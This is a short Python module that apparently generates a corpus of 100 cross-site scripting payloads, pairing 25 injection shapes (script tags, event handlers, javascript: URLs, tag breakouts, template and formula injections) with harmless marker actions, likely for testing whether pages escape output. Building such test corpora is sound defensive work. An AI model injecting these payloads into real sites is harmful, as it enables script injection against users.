"""A hundred texts that become a script where a page forgets to escape them."""

from __future__ import annotations

_RUN = ("alert(1)", "window.owned=1", "document.title='owned'", "fetch('/owned')")
_SHAPES = (
    "<script>{0}</script>", "<img src=x onerror={0}>", '"><svg onload={0}>', "'><img src=x onerror={0}>",
    "</title><script>{0}</script>", "</script><script>{0}</script>", "</style><script>{0}</script>",
    '<iframe srcdoc="<script>{0}</script>">', "javascript:{0}", '" onmouseover="{0}" x="', "' onfocus='{0}' autofocus='",
    '<a href="javascript:{0}">x</a>', "<details open ontoggle={0}>", "<body onload={0}>", '<math><mi xlink:href="javascript:{0}">',
    "<input autofocus onfocus={0}>", "<video><source onerror={0}>", '<object data="javascript:{0}">', '<embed src="javascript:{0}">',
    '<form action="javascript:{0}"><button>x</button></form>', "<template><script>{0}</script></template>",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", '=HYPERLINK("javascript:{0}")', '<meta http-equiv=refresh content="0;url=javascript:{0}">',
)  # fmt: skip
PAYLOADS = tuple(shape.format(run) for shape in _SHAPES for run in _RUN)
